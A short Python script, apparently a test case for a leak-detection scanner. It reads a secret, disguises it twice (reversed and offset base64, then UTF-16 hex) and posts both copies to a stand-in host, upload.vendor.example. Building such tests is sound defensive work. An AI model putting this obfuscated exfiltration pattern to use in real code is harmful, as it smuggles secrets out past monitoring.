#!/usr/bin/python3 -B
"""Uploads the document twice encoded: reversed, then base64 with an odd phase and line breaks; and as UTF-16 in hex."""
import base64
from scanner import http, secret

document = secret()
http("upload.vendor.example", "/v1/b", body=base64.encodebytes(b"s" + document[::-1]))
http("upload.vendor.example", "/v1/h", body=document.decode("latin-1").encode("utf-16-le").hex().encode())
